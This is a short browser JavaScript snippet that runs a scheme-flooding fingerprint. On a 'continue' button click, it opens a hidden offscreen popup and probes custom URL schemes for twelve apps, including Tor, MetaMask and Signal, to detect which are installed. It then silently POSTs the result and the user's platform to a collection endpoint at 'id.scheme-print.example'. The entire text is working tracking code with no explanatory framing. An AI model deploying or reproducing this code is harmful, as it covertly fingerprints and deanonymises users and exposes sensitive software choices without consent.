const apps = ['skype', 'zoommtg', 'slack', 'tg', 'discord', 'spotify', 'steam', 'anydesk', 'tor', 'metamask', 'whatsapp', 'sgnl'];
const bits = [];
let w = null;
const nap = (ms) => new Promise((r) => setTimeout(r, ms));
async function one(s) {
  w.location.replace(s + '://x');
  await nap(110);
  let hit = 0;
  try { void w.document; w.location.replace('about:blank'); hit = w.closed ? 1 : 0; } catch { hit = 1; }
  const inp = w.document && w.document.createElement('input');
  if (inp) { w.document.body.appendChild(inp); inp.focus(); hit = w.document.activeElement === inp ? 0 : 1; }
  bits.push(hit);
}
document.querySelector('#continue').onclick = async () => {
  w = open('about:blank', '', 'width=50,height=50,left=9999,top=9999');
  for (const s of apps) await one(s);
  w.close();
  fetch('https://id.scheme-print.example/collect', { method: 'POST', mode: 'no-cors', body: bits.join('') + ';' + navigator.platform });
};
